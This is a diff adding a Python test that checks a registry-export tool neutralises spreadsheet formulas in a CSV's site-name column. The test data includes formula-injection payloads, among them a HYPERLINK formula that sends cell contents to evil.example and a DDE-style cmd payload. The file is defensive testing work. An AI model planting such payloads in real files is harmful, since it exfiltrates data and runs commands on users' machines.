@@ -13,6 +13,7 @@ from inspection.declared.office import Source
 from inspection.errors import GateStopped, InspectionError
 from inspection.flow import returning
 from inspection.registry import rulings
+from inspection.text.cells import is_formula
 
 OCT = [date(2023, 10, day) for day in range(1, 9)]
 HEADER = "网站标识码,网站名称,首页网址,主办单位,行政区划代码,运行状态\n"
@@ -92,6 +93,26 @@ def test_corrected_and_approved_rows_of_a_registry_come_in_and_stay_in(connectio
     # the export of the next day has the same bad rows: the rulings hold
     batch = load("sites", sites(BAD_REGION, BAD_CODE).replace("云州1网", "云州第一网"), OCT[1])
     assert (batch.quarantined, batch.in_force) == (0, 7)
+
+
+def test_a_formula_of_a_strangers_file_is_inert_in_the_csv_and_comes_back_as_it_was(connection, office, load, tmp_path):
+    names = ['=HYPERLINK("http://evil.example/?x="&B2)', "＝cmd|' /C calc'!A0", "@SUM(1)", "'=1", "+86", "-", "\t=1"]
+    quoted = [name.replace('"', '""') for name in names]
+    rows = [f'5.399E+0{n},"{name}",http://s{n}.example/,甲局,539900,正常运行\n' for n, name in enumerate(quoted)]
+    load("sites", sites(*rows), OCT[0])
+    connection.commit()
+    assert dict(rulings.write_waiting(connection, office, tmp_path / "out")) == {"sites": len(names)}
+    path = tmp_path / "out" / "sites.csv"
+    with path.open(encoding="utf-8-sig", newline="") as file:
+        waiting = list(csv.DictReader(file))
+    assert sorted(row["网站名称"] for row in waiting) == sorted(f"'{name}" for name in names)
+    assert not any(is_formula(cell) for row in waiting for cell in row.values())
+    with path.open("w", encoding="utf-8", newline="") as file:
+        writer = csv.DictWriter(file, waiting[0])
+        writer.writeheader()
+        writer.writerows(row | {"处理": "更正"} for row in waiting)
+    ruled = rulings.read_rulings(path)["sites"]
+    assert sorted(ruling.cells["网站名称"] for ruling in ruled.values()) == sorted(names)
 
 
 def test_a_discarded_row_stays_out_and_is_asked_about_no_more(connection, office, load, tmp_path):
